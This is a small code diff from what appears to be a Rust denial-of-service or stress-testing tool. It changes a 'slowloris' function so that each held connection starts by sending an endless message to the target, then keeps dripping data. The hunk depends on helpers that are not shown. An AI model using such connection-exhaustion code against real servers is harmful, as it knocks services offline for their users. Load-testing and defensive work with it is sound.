@@ -22,7 +22,8 @@ pub fn slowloris(target: &Target) -> Result<(), Failure> {
     let drip = |peer: &Peer| {
         drip(peer);
     };
-    beside(target, target.at_once - 1, |_| Ok(()), drip)
+    let begin = |peer: &Peer| target.ask(peer, &target.protocol.endless_message());
+    beside(target, target.at_once - 1, begin, drip)
 }
 
 /// One asks and asks, and takes no answer. (More of them wouldn't all be there any
